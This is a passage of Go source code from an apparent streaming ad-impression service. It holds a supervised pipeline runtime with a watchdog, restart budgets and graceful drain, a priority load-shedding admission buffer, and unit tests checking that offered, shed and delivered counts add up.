	// ErrRestartBudget reports a stage that kept dying until its budget ran
	// out.
	ErrRestartBudget = errors.New("stream: stage restart budget exhausted")
)

// Pipeline coordinates a set of supervised stages. Lifecycle:
//
//	p := NewPipeline(ctx, cfg)
//	Run stages with RunStage, feed the first channel, close it when the
//	source ends, then p.Wait() after the last consumer finishes.
//
// Cancelling ctx requests a graceful drain: sources should stop producing
// (watch p.Draining()), in-flight items keep running under WorkContext
// until DrainTimeout, then everything is cancelled hard.
type Pipeline struct {
	cfg Config

	// workCtx governs in-flight item processing. It is deliberately NOT a
	// child of the run context: shutdown must let in-flight items finish
	// (drain), not chop them mid-visit.
	workCtx    context.Context
	workCancel context.CancelFunc

	draining chan struct{} // closed when the run ctx is cancelled
	done     chan struct{} // closed by Wait when all stages finished

	failOnce sync.Once
	failErr  error

	wg       sync.WaitGroup // one per stage supervisor
	drainWG  sync.WaitGroup // drain watcher
	restarts *telemetry.Counter

	probeMu sync.Mutex
	probes  []*stageProbe
}

// stageProbe is the live, read-only view of one running stage that the ops
// plane samples: buffered input, in-flight items, and the per-stage counters.
// Probes are registered by RunStage and marked done when the stage winds
// down; all accessors are safe while workers are running.
type stageProbe struct {
	name     string
	m        *stageMetrics
	buffered func() int
	// oldest returns the age of the oldest unclaimed in-flight item, or 0
	// when nothing is in flight.
	oldest func(now time.Time) time.Duration
	done   atomic.Bool
}

// StageStatus is one stage's sampled state: live levels (queue, in-flight,
// oldest item age), high-water marks, and lifetime counters. All values are
// observational — sampling them never perturbs the pipeline.
type StageStatus struct {
	Stage            string `json:"stage"`
	Running          bool   `json:"running"`
	Queue            int64  `json:"queue"`
	QueueMax         int64  `json:"queue_max"`
	Inflight         int64  `json:"inflight"`
	InflightMax      int64  `json:"inflight_max"`
	OldestInflightNS int64  `json:"oldest_inflight_ns"`
	Items            int64  `json:"items"`
	Restarts         int64  `json:"restarts"`
	Panics           int64  `json:"panics"`
	Wedged           int64  `json:"wedged"`
	Fallbacks        int64  `json:"fallbacks"`
}

func (p *Pipeline) addProbe(pr *stageProbe) {
	p.probeMu.Lock()
	p.probes = append(p.probes, pr)
	p.probeMu.Unlock()
}

// StageStatuses samples every registered stage in registration (pipeline)
// order.
func (p *Pipeline) StageStatuses(now time.Time) []StageStatus {
	p.probeMu.Lock()
	probes := make([]*stageProbe, len(p.probes))
	copy(probes, p.probes)
	p.probeMu.Unlock()
	out := make([]StageStatus, 0, len(probes))
	for _, pr := range probes {
		out = append(out, StageStatus{
			Stage:            pr.name,
			Running:          !pr.done.Load(),
			Queue:            int64(pr.buffered()),
			QueueMax:         pr.m.depthMax.Value(),
			Inflight:         pr.m.inflight.Value(),
			InflightMax:      pr.m.inflightMax.Value(),
			OldestInflightNS: pr.oldest(now).Nanoseconds(),
			Items:            pr.m.items.Value(),
			Restarts:         pr.m.restarts.Value(),
			Panics:           pr.m.panics.Value(),
			Wedged:           pr.m.wedged.Value(),
			Fallbacks:        pr.m.fallbacks.Value(),
		})
	}
	return out
}

// NewPipeline builds a pipeline whose graceful-drain trigger is ctx's
// cancellation.
func NewPipeline(ctx context.Context, cfg Config) *Pipeline {
	cfg = cfg.withDefaults()
	workCtx, workCancel := context.WithCancel(context.Background())
	p := &Pipeline{
		cfg:        cfg,
		workCtx:    workCtx,
		workCancel: workCancel,
		draining:   make(chan struct{}),
		done:       make(chan struct{}),
		restarts:   cfg.Tel.Counter("stream_restarts_total"),
	}
	p.drainWG.Add(1)
	go p.watchDrain(ctx)
	return p
}

// watchDrain arms the drain deadline when the run context ends: a span
// brackets the drain window, and stragglers are cut off hard when it
// expires.
func (p *Pipeline) watchDrain(ctx context.Context) {
	defer p.drainWG.Done()
	select {
	case <-ctx.Done():
	case <-p.done:
		return
	}
	close(p.draining)
	_, sp := p.cfg.Tel.StartSpan(context.Background(), telemetry.StageStreamDrain, "drain")
	defer sp.End()
	timer := time.NewTimer(p.cfg.DrainTimeout)
	defer timer.Stop()
	select {
	case <-p.done:
	case <-timer.C:
		p.cfg.Tel.Counter("stream_drain_deadline_total").Inc()
		p.workCancel()
		<-p.done
	}
}

// Draining returns a channel closed once a graceful drain has been
// requested. Sources select on it to stop producing.
func (p *Pipeline) Draining() <-chan struct{} { return p.draining }

// WorkContext is the context in-flight work runs under. It outlives the run
// context through the drain window and dies at the drain deadline or on
// pipeline failure.
func (p *Pipeline) WorkContext() context.Context { return p.workCtx }

// Fail aborts the pipeline with err (first error wins): all in-flight work
// is cancelled and Wait returns the error.
func (p *Pipeline) Fail(err error) {
	p.failOnce.Do(func() {
		p.failErr = err
		p.workCancel()
	})
}

// Wait blocks until every stage supervisor has finished, then releases the
// drain machinery and reports the first failure, if any.
func (p *Pipeline) Wait() error {
	p.wg.Wait()
	close(p.done)
	p.drainWG.Wait()
	p.workCancel()
	return p.failErr
}

// Chan allocates one bounded inter-stage channel.
func Chan[T any](p *Pipeline) chan T { return make(chan T, p.cfg.Queue) }

// stageMetrics are the per-stage instruments the runtime bumps. Alongside
// the lifetime counters it keeps live queue/in-flight gauges and their
// high-water marks (stream_queue_depth_max, stream_inflight_max) — the
// watermarks the ops plane's /statusz and the end-of-run latency table
// surface — plus the per-item duration histogram
// (pipeline_stage_duration_ns{stage="stream.<name>"}).
type stageMetrics struct {
	depthIn     *telemetry.Gauge
	depthMax    *telemetry.Gauge
	inflight    *telemetry.Gauge
	inflightMax *telemetry.Gauge
	items       *telemetry.Counter
	panics      *telemetry.Counter
	wedged      *telemetry.Counter
	restarts    *telemetry.Counter
	fallbacks   *telemetry.Counter
	hist        *telemetry.Histogram
}

func newStageMetrics(tel *telemetry.Set, name string) *stageMetrics {
	l := telemetry.L("stage", name)
	return &stageMetrics{
		depthIn:     tel.Gauge("stream_queue_depth", l),
		depthMax:    tel.Gauge("stream_queue_depth_max", l),
		inflight:    tel.Gauge("stream_inflight", l),
		inflightMax: tel.Gauge("stream_inflight_max", l),
		items:       tel.Counter("stream_items_total", l),
		panics:      tel.Counter("stream_worker_panics_total", l),
		wedged:      tel.Counter("stream_worker_wedged_total", l),
		restarts:    tel.Counter("stream_worker_restarts_total", l),
		fallbacks:   tel.Counter("stream_fallback_outcomes_total", l),
		hist:        tel.StageHist("stream." + name),
	}
}

// setDepth records the instantaneous input-queue depth and its high-water
// mark.
func (m *stageMetrics) setDepth(n int) {
	m.depthIn.Set(int64(n))
	m.depthMax.SetMax(int64(n))
}

// workerSlot is the supervisor's view of one worker's current item.
type workerSlot[I any] struct {
	mu        sync.Mutex
	item      I
	hasItem   bool
	busySince time.Time
	claimed   bool // fallback already emitted for the current item
	gen       uint64
}

// begin registers the item the worker is about to process and returns its
// claim generation.
func (s *workerSlot[I]) begin(item I) uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.item = item
	s.hasItem = true
	s.busySince = time.Now()
	s.claimed = false
	s.gen++
	return s.gen
}

// finish attempts to claim the item's outcome for the worker itself. It
// returns false when the watchdog got there first (the worker was replaced
// and must discard its result and exit).
func (s *workerSlot[I]) finish(gen uint64) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.gen != gen || s.claimed {
		return false
	}
	s.claimed = true
	s.hasItem = false
	var zero I
	s.item = zero
	return true
}

// busySinceUnclaimed reports when the worker started its current item, if it
// is still unclaimed in flight. Used by the stage probe to compute the
// oldest-in-flight age without perturbing claim state.
func (s *workerSlot[I]) busySinceUnclaimed() (time.Time, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if !s.hasItem || s.claimed {
		return time.Time{}, false
	}
	return s.busySince, true
}

// steal attempts to claim the worker's current item for the watchdog,
// returning it when the worker has been busy on it for longer than
// deadline.
func (s *workerSlot[I]) steal(deadline time.Duration) (I, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	var zero I
	if !s.hasItem || s.claimed || time.Since(s.busySince) < deadline {
		return zero, false
	}
	s.claimed = true
	item := s.item
	s.hasItem = false
	s.item = zero
	return item, true
}

// RunStage runs a supervised worker pool named name that maps items from in
// to out. The stage owns out and closes it when in is exhausted and every
// live worker has finished.
//
// work must be a function of (ctx, item) alone; it reports failures inside
// its outcome type rather than through an error (the pipeline has no
// concept of retryable items — resilience lives inside the work, this layer
// only guarantees the item count). fallback synthesizes the outcome for an
// item whose worker panicked or wedged, keeping accounting complete.
func RunStage[I, O any](p *Pipeline, name string, workers int, in <-chan I, out chan<- O,
	work func(ctx context.Context, item I) O, fallback func(item I, cause error) O) {
	if workers <= 0 {
		workers = 1
	}
	m := newStageMetrics(p.cfg.Tel, name)
	p.wg.Add(1)
	go superviseStage(p, name, workers, in, out, work, fallback, m)
}

// stageExit is one worker's termination report.
type stageExit struct {
	slot     int
	panicked any  // non-nil when the worker died to a panic
	replaced bool // the watchdog already spawned this worker's successor
}

// superviseStage is the supervisor goroutine for one stage: it spawns the
// worker pool, watches for panics and wedged workers, respawns them against
// the restart budget, and closes out when the stage is done.
func superviseStage[I, O any](p *Pipeline, name string, workers int, in <-chan I, out chan<- O,
	work func(ctx context.Context, item I) O, fallback func(item I, cause error) O, m *stageMetrics) {
	defer p.wg.Done()
	defer close(out)

	exits := make(chan stageExit, workers)
	slots := make([]*workerSlot[I], workers)
	var slotsMu sync.Mutex // guards the slots table (watchdog reads, supervisor swaps)

	// Register the live probe the ops plane samples. buffered/oldest read the
	// channel level and slot table directly — observe-only, no claim state is
	// touched.
	probe := &stageProbe{
		name:     name,
		m:        m,
		buffered: func() int { return len(in) },
		oldest: func(now time.Time) time.Duration {
			slotsMu.Lock()
			scan := make([]*workerSlot[I], len(slots))
			copy(scan, slots)
			slotsMu.Unlock()
			var oldest time.Duration
			for _, slot := range scan {
				if since, ok := slot.busySinceUnclaimed(); ok {
					if age := now.Sub(since); age > oldest {
						oldest = age
					}
				}
			}
			return oldest
		},
	}
	p.addProbe(probe)
	defer probe.done.Store(true)

	// emit delivers one outcome. The non-blocking attempt comes first so a
	// straggler finishing right at the hard-cancel still hands its outcome
	// to a live consumer instead of losing a select race against Done.
	emit := func(v O) bool {
		select {
		case out <- v:
			m.setDepth(len(in))
			return true
		default:
		}
		select {
		case out <- v:
			m.setDepth(len(in))
			return true
		case <-p.workCtx.Done():
			return false
		}
	}
	spawn := func(slot *workerSlot[I], id int) {
		go runWorker(p, in, work, fallback, m, slot, id, emit, exits)
	}
	slotsMu.Lock()
	for i := 0; i < workers; i++ {
		slot := &workerSlot[I]{}
		slots[i] = slot
		spawn(slot, i)
	}
	slotsMu.Unlock()

	// The watchdog scans worker slots for items stuck past the deadline.
	watchdogStop := make(chan struct{})
	var watchdogWG sync.WaitGroup
	if p.cfg.WatchdogDeadline > 0 {
		watchdogWG.Add(1)
		go func() {
			defer watchdogWG.Done()
			poll := p.cfg.WatchdogDeadline / 4
			if poll < time.Millisecond {
				poll = time.Millisecond
			}
			ticker := time.NewTicker(poll)
			defer ticker.Stop()
			for {
				select {
				case <-watchdogStop:
					return
				case <-p.workCtx.Done():
					return
				case <-ticker.C:
				}
				slotsMu.Lock()
				scan := make([]*workerSlot[I], len(slots))
				copy(scan, slots)
				slotsMu.Unlock()
				for i, slot := range scan {
					item, ok := slot.steal(p.cfg.WatchdogDeadline)
					if !ok {
						continue
					}
					// The worker is wedged: detach it (it will discard its
					// result on return), account the item with a degraded
					// fallback outcome, and put a replacement in its seat.
					m.wedged.Inc()
					m.fallbacks.Inc()
					m.inflight.Add(-1)
					p.cfg.Tel.Event(telemetry.LevelWarn, telemetry.EventWatchdogSteal, name,
						"item stolen from wedged worker",
						"slot", strconv.Itoa(i),
						"deadline", p.cfg.WatchdogDeadline.String())
					emit(fallback(item, ErrWedged))
					exits <- stageExit{slot: i, replaced: true}
				}
			}
		}()
	}

	// Reap worker exits until the pool winds down. A nil-panic, non-replaced
	// exit means the input channel is exhausted — normal completion.
	live := workers
	restarts := 0
	for live > 0 {
		ex := <-exits
		switch {
		case ex.panicked != nil, ex.replaced:
			restarts++
			m.restarts.Inc()
			p.restarts.Inc()
			p.cfg.Tel.Event(telemetry.LevelWarn, telemetry.EventStageRestart, name,
				"worker restarted",
				"restarts", strconv.Itoa(restarts),
				"budget", strconv.Itoa(p.cfg.RestartBudget),
				"cause", fmt.Sprint(exitCause(ex)))
			if restarts > p.cfg.RestartBudget {
				p.cfg.Tel.Event(telemetry.LevelError, telemetry.EventRestartBudget, name,
					"restart budget exhausted, failing pipeline",
					"restarts", strconv.Itoa(restarts),
					"budget", strconv.Itoa(p.cfg.RestartBudget))
				p.Fail(fmt.Errorf("%w: stage %s restarted %d times (budget %d), last cause: %v",
					ErrRestartBudget, name, restarts, p.cfg.RestartBudget, exitCause(ex)))
				live--
				continue
			}
			// Fresh slot: the old one may still be owned by a detached
			// goroutine.
			slot := &workerSlot[I]{}
			slotsMu.Lock()
			slots[ex.slot] = slot
			slotsMu.Unlock()
			spawn(slot, ex.slot)
		default:
			live--
		}
	}
	// Every counted worker emits before sending its terminal exit, and the
	// watchdog emits before reporting a replacement, so once live hits zero
	// and the watchdog has stopped nothing can touch out again. Detached
	// (wedged) goroutines never emit; they are deliberately NOT waited on so
	// a hard-stuck worker cannot block shutdown.
	close(watchdogStop)
	watchdogWG.Wait()
}

func exitCause(ex stageExit) any {
	if ex.panicked != nil {
		return ex.panicked
	}
	return ErrWedged
}

// runWorker is one supervised worker's life: pull items, process each under
// the item deadline, emit exactly one outcome per item, and report the exit
// to the supervisor. A worker whose outcome was stolen by the watchdog is
// detached — it exits silently because its replacement already reported.
func runWorker[I, O any](p *Pipeline, in <-chan I,
	work func(ctx context.Context, item I) O, fallback func(item I, cause error) O,
	m *stageMetrics, slot *workerSlot[I], id int,
	emit func(O) bool, exits chan<- stageExit) {
	for {
		var item I
		var ok bool
		select {
		case item, ok = <-in:
		case <-p.workCtx.Done():
			ok = false
		}
		if !ok {
			exits <- stageExit{slot: id}
			return
		}
		m.setDepth(len(in))
		m.items.Inc()

		gen := slot.begin(item)
		m.inflightMax.SetMax(m.inflight.Add(1))
		start := time.Now()
		res, panicked := runGuarded(p, work, item)
		m.hist.ObserveDuration(time.Since(start))
		if panicked != nil {
			// The worker dies to the panic; the supervisor respawns it. The
			// item still gets an outcome (unless the watchdog raced us to
			// it).
			if slot.finish(gen) {
				m.panics.Inc()
				m.fallbacks.Inc()
				m.inflight.Add(-1)
				emit(fallback(item, fmt.Errorf("%w: %v", ErrPanicked, panicked)))
			}
			exits <- stageExit{slot: id, panicked: panicked}
			return
		}
		if !slot.finish(gen) {
			// Watchdog claimed the item and spawned a successor: this
			// worker is detached. The in-flight decrement happened at steal
			// time. Exit without reporting.
			return
		}
		m.inflight.Add(-1)
		if !emit(res) {
			exits <- stageExit{slot: id}
			return
		}
	}
}

// runGuarded runs work under the per-item deadline with panic capture.
func runGuarded[I, O any](p *Pipeline, work func(ctx context.Context, item I) O, item I) (res O, panicked any) {
	ctx := p.workCtx
	if p.cfg.ItemTimeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, p.cfg.ItemTimeout)
		defer cancel()
	}
	defer func() {
		if r := recover(); r != nil {
			panicked = r
		}
	}()
	return work(ctx, item), nil
}
