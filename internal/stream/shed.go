package stream

import (
	"container/heap"
	"strconv"
	"sync"

	"madave/internal/telemetry"
)

// Shedder is the service's admission controller: a bounded priority buffer
// between an unbounded impression source and the first pipeline stage.
//
// Offers never block the producer. While the buffer has room, every offer
// is admitted; when it is full — the pipeline is saturated and backpressure
// has propagated all the way to intake — the lowest-priority buffered
// impression is dropped to make room (or the offer itself is dropped when
// it is the least important thing in sight). Every drop is counted against
// stream_shed_total{priority=…}: shedding is a measured, deliberate
// degradation, never silent loss.
//
// A pump goroutine forwards buffered items, highest priority first, into
// the bounded stage channel.
type Shedder[T any] struct {
	mu     sync.Mutex
	buf    shedHeap[T]
	cap    int
	closed bool
	wake   chan struct{}

	offered   *telemetry.Counter
	delivered *telemetry.Counter
	shedLow   *telemetry.Counter
	shedMid   *telemetry.Counter
	shedHigh  *telemetry.Counter
	shedAll   *telemetry.Counter
	depth     *telemetry.Gauge
	depthMax  *telemetry.Gauge
	tel       *telemetry.Set

	// burstActive/burstShed track a contiguous run of sheds for the event
	// log: the first shed after a quiet period opens a burst, and the first
	// offer admitted with buffer headroom closes it with the total count.
	burstActive bool
	burstShed   int64

	// order is a monotonic sequence breaking priority ties FIFO, so equal-
	// priority impressions shed oldest-last and deliver in arrival order.
	order uint64
}

// ShedStats is the admission controller's accounting. The conservation law
// Offered = Shed + Delivered + Buffered holds at every instant, and after a
// drain (Buffered = 0) it degenerates to Offered = Shed + Delivered — the
// identity the overload soak asserts: every impression is either processed
// or visibly, countedly dropped.
type ShedStats struct {
	Offered   int64
	Delivered int64
	Shed      int64
	Buffered  int64
}

// NewShedder builds an admission buffer holding at most capacity items
// (minimum 1). Priorities: higher values are more important; ties deliver
// FIFO.
func NewShedder[T any](capacity int, tel *telemetry.Set) *Shedder[T] {
	if capacity <= 0 {
		capacity = 1
	}
	if tel == nil {
		tel = telemetry.New(0)
	}
	pr := func(v string) telemetry.Label { return telemetry.L("priority", v) }
	return &Shedder[T]{
		cap:       capacity,
		wake:      make(chan struct{}, 1),
		offered:   tel.Counter("stream_offered_total"),
		delivered: tel.Counter("stream_delivered_total"),
		shedLow:   tel.Counter("stream_shed_by_priority_total", pr("low")),
		shedMid:   tel.Counter("stream_shed_by_priority_total", pr("mid")),
		shedHigh:  tel.Counter("stream_shed_by_priority_total", pr("high")),
		shedAll:   tel.Counter("stream_shed_total"),
		depth:     tel.Gauge("stream_queue_depth", telemetry.L("stage", "admission")),
		depthMax:  tel.Gauge("stream_queue_depth_max", telemetry.L("stage", "admission")),
		tel:       tel,
	}
}

// shedItem is one buffered impression.
type shedItem[T any] struct {
	v     T
	pri   int
	order uint64
}

// shedHeap is a min-heap by (priority, recency): the root is the least
// important item — the next to shed.
type shedHeap[T any] []shedItem[T]

func (h shedHeap[T]) Len() int { return len(h) }
func (h shedHeap[T]) Less(i, j int) bool {
	if h[i].pri != h[j].pri {
		return h[i].pri < h[j].pri
	}
	return h[i].order > h[j].order // same priority: newest sheds first
}
func (h shedHeap[T]) Swap(i, j int) { h[i], h[j] = h[j], h[i] }
func (h *shedHeap[T]) Push(x any)   { *h = append(*h, x.(shedItem[T])) }
func (h *shedHeap[T]) Pop() any     { old := *h; n := len(old); it := old[n-1]; *h = old[:n-1]; return it }
func (h shedHeap[T]) peekBest() (int, int) { // index and priority of the best item
	best, bestPri, bestOrd := -1, 0, uint64(0)
	for i, it := range h {
		if best == -1 || it.pri > bestPri || (it.pri == bestPri && it.order < bestOrd) {
			best, bestPri, bestOrd = i, it.pri, it.order
		}
	}
	return best, bestPri
}

// Offer submits one impression with the given priority (higher = more
// important). It returns false when this impression was immediately shed
// (it was the least important thing in sight while the buffer was full).
// True means it entered the buffer — though a saturated buffer may still
// shed it later in favor of higher-priority arrivals; the ShedStats
// conservation law accounts for both paths.
func (s *Shedder[T]) Offer(item T, priority int) bool {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return false
	}
	s.offered.Inc()
	s.order++
	it := shedItem[T]{v: item, pri: priority, order: s.order}
	admitted := true
	var burstStart bool
	var burstEnd int64 // >0: a burst of that many sheds just closed
	if len(s.buf) >= s.cap {
		// Saturated: shed the least important impression in sight.
		victim := it
		if s.buf[0].pri < priority {
			victim = s.buf[0]
			s.buf[0] = it
			heap.Fix(&s.buf, 0)
		} else {
			admitted = false
		}
		s.countShed(victim.pri)
		if !s.burstActive {
			s.burstActive = true
			s.burstShed = 0
			burstStart = true
		}
		s.burstShed++
	} else {
		heap.Push(&s.buf, it)
		// Headroom again: the shed burst (if one was running) is over.
		if s.burstActive {
			s.burstActive = false
			burstEnd = s.burstShed
		}
	}
	s.depth.Set(int64(len(s.buf)))
	s.depthMax.SetMax(int64(len(s.buf)))
	s.mu.Unlock()
	if burstStart {
		s.tel.Event(telemetry.LevelWarn, telemetry.EventShedBurst, "admission",
			"buffer saturated, shedding lowest-priority impressions",
			"capacity", strconv.Itoa(s.cap))
	}
	if burstEnd > 0 {
		s.tel.Event(telemetry.LevelInfo, telemetry.EventShedBurstEnd, "admission",
			"buffer has headroom again",
			"shed", strconv.FormatInt(burstEnd, 10))
	}
	select {
	case s.wake <- struct{}{}:
	default:
	}
	return admitted
}

func (s *Shedder[T]) countShed(pri int) {
	s.shedAll.Inc()
	switch {
	case pri <= PriorityLow:
		s.shedLow.Inc()
	case pri >= PriorityHigh:
		s.shedHigh.Inc()
	default:
		s.shedMid.Inc()
	}
}

// Priority bands for the shed counters (the service maps site-rank tiers
// onto these).
const (
	PriorityLow  = 0
	PriorityMid  = 1
	PriorityHigh = 2
)

// Close stops admission. Buffered items still drain via Pump.
func (s *Shedder[T]) Close() {
	s.mu.Lock()
	s.closed = true
	s.mu.Unlock()
	select {
	case s.wake <- struct{}{}:
	default:
	}
}

// take removes the highest-priority buffered item.
func (s *Shedder[T]) take() (T, bool, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	var zero T
	if len(s.buf) == 0 {
		return zero, false, s.closed
	}
	i, _ := s.buf.peekBest()
	it := s.buf[i]
	s.buf[i] = s.buf[len(s.buf)-1]
	s.buf = s.buf[:len(s.buf)-1]
	if i < len(s.buf) {
		heap.Fix(&s.buf, i)
	}
	s.delivered.Inc()
	s.depth.Set(int64(len(s.buf)))
	return it.v, true, false
}

// Pump forwards buffered impressions into out, highest priority first,
// until the shedder is closed and drained or the pipeline's work context
// dies. It closes out on return; call it in its own goroutine.
func (s *Shedder[T]) Pump(p *Pipeline, out chan<- T) {
	defer close(out)
	for {
		item, ok, closed := s.take()
		if !ok {
			if closed {
				return
			}
			select {
			case <-s.wake:
				continue
			case <-p.workCtx.Done():
				return
			}
		}
		select {
		case out <- item:
		case <-p.workCtx.Done():
			return
		}
	}
}

// Stats snapshots the admission accounting.
func (s *Shedder[T]) Stats() ShedStats {
	s.mu.Lock()
	buffered := int64(len(s.buf))
	s.mu.Unlock()
	return ShedStats{
		Offered:   s.offered.Value(),
		Delivered: s.delivered.Value(),
		Shed:      s.shedAll.Value(),
		Buffered:  buffered,
	}
}
