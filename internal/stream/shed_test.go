package stream

import (
	"context"
	"sync"
	"testing"

	"madave/internal/telemetry"
)

func assertConservation(t *testing.T, st ShedStats) {
	t.Helper()
	if st.Offered != st.Shed+st.Delivered+st.Buffered {
		t.Fatalf("conservation violated: offered %d != shed %d + delivered %d + buffered %d",
			st.Offered, st.Shed, st.Delivered, st.Buffered)
	}
}

func pumpAll[T any](t *testing.T, s *Shedder[T]) []T {
	t.Helper()
	p := NewPipeline(context.Background(), Config{})
	out := make(chan T, 256)
	go s.Pump(p, out)
	var got []T
	for v := range out {
		got = append(got, v)
	}
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}
	return got
}

func TestShedderAdmitsEverythingWithRoom(t *testing.T) {
	tel := telemetry.New(1)
	s := NewShedder[int](10, tel)
	for i := 1; i <= 10; i++ {
		if !s.Offer(i, PriorityLow) {
			t.Fatalf("offer %d rejected with room to spare", i)
		}
	}
	s.Close()
	got := pumpAll(t, s)
	if len(got) != 10 {
		t.Fatalf("delivered %d, want 10", len(got))
	}
	st := s.Stats()
	assertConservation(t, st)
	if st.Shed != 0 || st.Delivered != 10 || st.Buffered != 0 {
		t.Fatalf("stats = %+v", st)
	}
}

func TestShedderEvictsLowestPriorityNewestFirst(t *testing.T) {
	tel := telemetry.New(1)
	s := NewShedder[string](2, tel)
	s.Offer("low-old", PriorityLow)
	s.Offer("low-new", PriorityLow)
	// Full. A high-priority arrival evicts the newest low item (oldest-first
	// survival within a band), then a mid arrival evicts the remaining low.
	if !s.Offer("high", PriorityHigh) {
		t.Fatal("high-priority offer rejected")
	}
	if !s.Offer("mid", PriorityMid) {
		t.Fatal("mid-priority offer rejected")
	}
	s.Close()
	got := pumpAll(t, s)
	if len(got) != 2 || got[0] != "high" || got[1] != "mid" {
		t.Fatalf("delivered = %v, want [high mid] (best-first)", got)
	}
	st := s.Stats()
	assertConservation(t, st)
	if st.Shed != 2 {
		t.Fatalf("shed = %d, want 2", st.Shed)
	}
	if n := tel.Counter("stream_shed_by_priority_total", telemetry.L("priority", "low")).Value(); n != 2 {
		t.Fatalf("low-priority sheds = %d, want 2", n)
	}
}

func TestShedderDropsOfferWhenItIsTheLeastImportant(t *testing.T) {
	s := NewShedder[string](1, nil)
	s.Offer("high", PriorityHigh)
	if s.Offer("low", PriorityLow) {
		t.Fatal("low-priority offer admitted into a saturated buffer of higher priority")
	}
	s.Close()
	got := pumpAll(t, s)
	if len(got) != 1 || got[0] != "high" {
		t.Fatalf("delivered = %v", got)
	}
	st := s.Stats()
	assertConservation(t, st)
	if st.Shed != 1 || st.Delivered != 1 {
		t.Fatalf("stats = %+v", st)
	}
}

func TestShedderDeliversFIFOWithinPriority(t *testing.T) {
	s := NewShedder[int](16, nil)
	for i := 1; i <= 8; i++ {
		s.Offer(i, PriorityMid)
	}
	s.Close()
	got := pumpAll(t, s)
	for i, v := range got {
		if v != i+1 {
			t.Fatalf("delivery order = %v, want FIFO within one priority band", got)
		}
	}
}

func TestShedderOfferAfterCloseIsRejected(t *testing.T) {
	s := NewShedder[int](4, nil)
	s.Offer(1, PriorityMid)
	s.Close()
	if s.Offer(2, PriorityHigh) {
		t.Fatal("offer admitted after Close")
	}
	st := s.Stats()
	if st.Offered != 1 {
		t.Fatalf("post-close offers must not count: offered = %d", st.Offered)
	}
}

func TestShedderConservationUnderConcurrentOverload(t *testing.T) {
	tel := telemetry.New(1)
	s := NewShedder[int](8, tel)
	p := NewPipeline(context.Background(), Config{Queue: 4, Tel: tel})
	out := make(chan int, 4)
	var consumed int64
	var consumerWG sync.WaitGroup
	consumerWG.Add(1)
	go func() {
		defer consumerWG.Done()
		for range out {
			consumed++
		}
	}()
	go s.Pump(p, out)

	const producers, perProducer = 8, 200
	var wg sync.WaitGroup
	for g := 0; g < producers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perProducer; i++ {
				s.Offer(g*perProducer+i, (g+i)%3) // deterministic priority mix
			}
		}(g)
	}
	wg.Wait()
	s.Close()
	consumerWG.Wait()
	if err := p.Wait(); err != nil {
		t.Fatalf("Wait: %v", err)
	}

	st := s.Stats()
	assertConservation(t, st)
	if st.Offered != producers*perProducer {
		t.Fatalf("offered = %d, want %d", st.Offered, producers*perProducer)
	}
	if st.Buffered != 0 {
		t.Fatalf("buffered = %d after drain", st.Buffered)
	}
	if st.Delivered != consumed {
		t.Fatalf("delivered %d != consumed %d", st.Delivered, consumed)
	}
	if st.Shed+st.Delivered != st.Offered {
		t.Fatalf("post-drain identity violated: %+v", st)
	}
	// Per-band shed counters must sum to the total.
	var sum int64
	for _, band := range []string{"low", "mid", "high"} {
		sum += tel.Counter("stream_shed_by_priority_total", telemetry.L("priority", band)).Value()
	}
	if sum != st.Shed {
		t.Fatalf("per-band sheds sum to %d, total says %d", sum, st.Shed)
	}
}
